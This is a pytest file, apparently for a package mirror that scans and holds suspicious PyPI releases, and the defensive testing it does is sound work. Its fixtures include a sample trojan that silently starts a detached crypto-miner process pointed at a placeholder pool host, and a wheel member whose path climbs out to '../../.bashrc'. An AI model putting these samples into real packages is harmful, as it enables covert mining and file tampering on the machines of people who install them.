"""Content screening through the server and real pip: a trojanised release of an
established project is held with the reason naming the file, the previous release
installs, a clean upgrade installs once its cooldown ends, and a tampered wheel
is refused before its last byte.  Payloads only print; nothing here runs them.
"""

from __future__ import annotations

import os
import time
from datetime import timedelta

import pytest
import requests
from sqlalchemy import select

from mirror.audit.runner import Auditor, audit_settings
from mirror.db.models import ArtifactScan, RefusedClient, Release
from mirror.review.evidence import explain
from mirror.review.queries import project_history
from tests.content.helpers import raw_wheel
from tests.support.clients import pip
from tests.support.dists import build_wheel
from tests.support.publish import ESTABLISHED, publish

JSON = "application/vnd.pypi.simple.v1+json"
CLEAN = b"def detect(image):\n    return []\n"
# The shape of a real campaign (ultralytics 8.3.41): a silent, detached process started at import.
TROJAN = (
    b"import subprocess, os\n"
    b"def safe_run(path):\n"
    b"    os.chmod(path, 0o755)\n"
    b"    subprocess.Popen([path, '--donate-level', '1', '-o', 'stratum+tcp://pool.example:3333'],\n"
    b"                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n"
    b"safe_run('/tmp/.cache-helper')\n"
    b"print('harmless test payload')\n"
)


def page(mirror, name: str) -> dict:
    response = requests.get(mirror.simple_url + f"{name}/", headers={"Accept": JSON}, timeout=30)
    assert response.status_code == 200, response.text
    return response.json()


def versions(mirror, name: str) -> set[str]:
    return {f["filename"].split("-")[1] for f in page(mirror, name)["files"]}


def wait_for_scans(mirror, project: str, version: str, count: int = 1, seconds: float = 30) -> list[ArtifactScan]:
    deadline = time.monotonic() + seconds
    while True:
        with mirror.services.sessions() as session:
            scans = list(session.query(ArtifactScan).filter_by(project=project, version=version))
        if len(scans) >= count or time.monotonic() > deadline:
            return scans
        time.sleep(0.1)


def test_a_trojanised_release_is_held_naming_the_file_and_the_previous_one_installs(
    mirror, index_server, clock, tmp_path
) -> None:
    dists = tmp_path / "dists"
    dists.mkdir()
    old = build_wheel(dists, "vision-kit", "8.3.40", files={"vision_kit/__init__.py": CLEAN})
    index_server.add_file("vision-kit", old, upload_time=clock() - ESTABLISHED)
    index_server.set_project_info("vision-kit", owners={"maintainer-one": "Owner"})
    assert versions(mirror, "vision-kit") == {"8.3.40"}
    assert pip(tmp_path, "download", "--no-deps", "-d", str(tmp_path / "dl"), "-i", mirror.simple_url,
               "vision-kit").returncode == 0
    trojan = build_wheel(dists, "vision-kit", "8.3.41", files={
        "vision_kit/__init__.py": CLEAN, "vision_kit/utils/downloads.py": TROJAN})
    index_server.add_file("vision-kit", trojan, upload_time=clock() - timedelta(hours=1))
    clock.advance(seconds=mirror.settings.upstream.index_ttl + 1)
    assert versions(mirror, "vision-kit") == {"8.3.40"}  # in its cooldown: off the page, scanned meanwhile
    scans = wait_for_scans(mirror, "vision-kit", "8.3.41")
    # The default: the download's scan and the background one ran in a worker process.
    assert [pid for pid in mirror.services.content.scans.pids() if pid != os.getpid()]
    # A miner pool and a silent detached process: critical, so the policy denies the release.
    assert scans and scans[0].action == "deny", [s.report.get("findings") for s in scans]
    with mirror.services.sessions() as session:
        release = session.query(Release).filter_by(project="vision-kit", version="8.3.41").one()
    assert release.state == "denied" and release.held_until is None  # not lifted by the clock
    assert "vision_kit/utils/downloads.py" in release.reason
    clock.advance(hours=80)  # the cooldown is over: the content decision stays
    assert versions(mirror, "vision-kit") == {"8.3.40"}
    why = requests.get(mirror.url + "why/vision-kit", params={"version": "8.3.41"}, timeout=30).text
    assert "downloads.py" in why
    result = pip(tmp_path, "download", "--no-deps", "-d", str(tmp_path / "dl2"), "-i", mirror.simple_url,
                 "vision-kit")
    assert result.returncode == 0 and "8.3.40" in result.stdout


def test_a_clean_upgrade_installs_once_its_cooldown_ends(mirror, index_server, clock, tmp_path) -> None:
    publish(index_server, tmp_path, "quiet-otter", "1.0")
    assert versions(mirror, "quiet-otter") == {"1.0"}
    publish(index_server, tmp_path, "quiet-otter", "1.1", age=timedelta(hours=1))
    clock.advance(seconds=mirror.settings.upstream.index_ttl + 1)
    assert versions(mirror, "quiet-otter") == {"1.0"}
    scans = wait_for_scans(mirror, "quiet-otter", "1.1")
    assert scans and scans[0].action == "allow" and scans[0].report["inventory"]["artifacts"]
    clock.advance(hours=72)
    assert versions(mirror, "quiet-otter") == {"1.0", "1.1"}
    result = pip(tmp_path, "download", "--no-deps", "-d", str(tmp_path / "dl"), "-i", mirror.simple_url,
                 "quiet-otter==1.1")
    assert result.returncode == 0, result.stderr


TAMPERINGS = {
    "a file missing from RECORD": dict(
        files={"bent_record/__init__.py": b"VALUE = 1\n", "bent_record/extra.py": b'print("harmless test payload")\n'},
        unlisted=["bent_record/extra.py"]),
    "a path that climbs out with ..": dict(extra_members=[("../../.bashrc", b'echo "harmless test payload"\n')]),
}


@pytest.mark.parametrize("tampering", sorted(TAMPERINGS))
def test_a_tampered_wheel_is_refused_before_its_last_byte(mirror, index_server, clock, tmp_path, tampering) -> None:
    filename, data = raw_wheel("bent_record", "1.0", **TAMPERINGS[tampering])
    path = tmp_path / filename
    path.write_bytes(data)
    index_server.add_file("bent-record", path, upload_time=clock() - ESTABLISHED)
    index_server.set_project_info("bent-record", owners={"maintainer-one": "Owner"})
    entry = page(mirror, "bent-record")["files"][0]
    url = requests.compat.urljoin(mirror.simple_url + "bent-record/", entry["url"])
    try:
        got = requests.get(url, timeout=30)
        completed = got.status_code == 200 and len(got.content) == len(data)
    except requests.RequestException:
        completed = False  # cut before the last byte
    assert not completed
    refused = requests.get(url, timeout=30)
    assert refused.status_code == 403 and "bent-record 1.0" in refused.text
    scans = wait_for_scans(mirror, "bent-record", "1.0")
    assert scans[0].action in ("hold", "deny") and scans[0].report["findings"]
    # Both refusals count for "clients that asked": the cut download (no error handler saw it) and the 403.
    mirror.app.state.refusals.flush()
    with mirror.services.sessions() as session:
        [row] = session.scalars(select(RefusedClient).where(RefusedClient.project == "bent-record"))
    assert row.count == 2


def test_the_reaudit_scans_cached_files_the_current_rules_never_saw(mirror, index_server, tmp_path) -> None:
    publish(index_server, tmp_path, "quiet-otter", "1.0")
    url = requests.compat.urljoin(mirror.simple_url + "quiet-otter/", page(mirror, "quiet-otter")["files"][0]["url"])
    assert requests.get(url, timeout=30).status_code == 200
    with mirror.services.sessions.begin() as session:  # as if the rule set changed since
        session.query(ArtifactScan).delete()
    Auditor(mirror.services, audit_settings(mirror.settings)).run(trigger="test", sweep=False)
    assert len(wait_for_scans(mirror, "quiet-otter", "1.0", seconds=1)) == 1


def test_content_findings_are_said_with_file_rule_excerpt_and_new_since(mirror, index_server, clock, tmp_path) -> None:
    test_a_trojanised_release_is_held_naming_the_file_and_the_previous_one_installs(mirror, index_server, clock, tmp_path)
    with mirror.services.sessions() as session:
        history = project_history(session, "vision-kit", clock())
    content = [f for f in history.findings if f.detector.startswith("content.") and f.version == "8.3.41"]
    assert content
    words = " ".join(" ".join(explain(f)) for f in content)
    assert "vision_kit/utils/downloads.py" in words and "New since 8.3.40" in words and "Excerpt:" in words


@pytest.mark.parametrize("mode, expected", [("one", 1), ("all", 3)])
def test_a_held_release_is_scanned_in_the_background_one_file_or_all(start_mirror, index_server, clock, tmp_path,
                                                                     mode, expected) -> None:
    """[content] held_release_files: one download per held release by default, every file when asked."""
    mirror = start_mirror(content={"held_release_files": mode})
    dists = tmp_path / "dists"
    dists.mkdir()
    index_server.add_file("multi-otter", build_wheel(dists, "multi-otter", "1.0"), upload_time=clock() - ESTABLISHED)
    index_server.set_project_info("multi-otter", owners={"maintainer-one": "Owner"})
    assert versions(mirror, "multi-otter") == {"1.0"}
    for tag in ("py3-none-any", "cp311-cp311-manylinux_2_17_x86_64", "cp312-cp312-win_amd64"):
        index_server.add_file("multi-otter", build_wheel(dists, "multi-otter", "2.0", tag=tag),
                              upload_time=clock() - timedelta(hours=1))
    clock.advance(seconds=mirror.settings.upstream.index_ttl + 1)
    assert versions(mirror, "multi-otter") == {"1.0"}  # 2.0 is in its cooldown
    scans = wait_for_scans(mirror, "multi-otter", "2.0", count=expected)
    time.sleep(0.5)  # nothing more arrives
    scans = wait_for_scans(mirror, "multi-otter", "2.0", count=expected + 1, seconds=0)
    assert len(scans) == expected
    if mode == "one":
        assert scans[0].filename.endswith("-py3-none-any.whl")
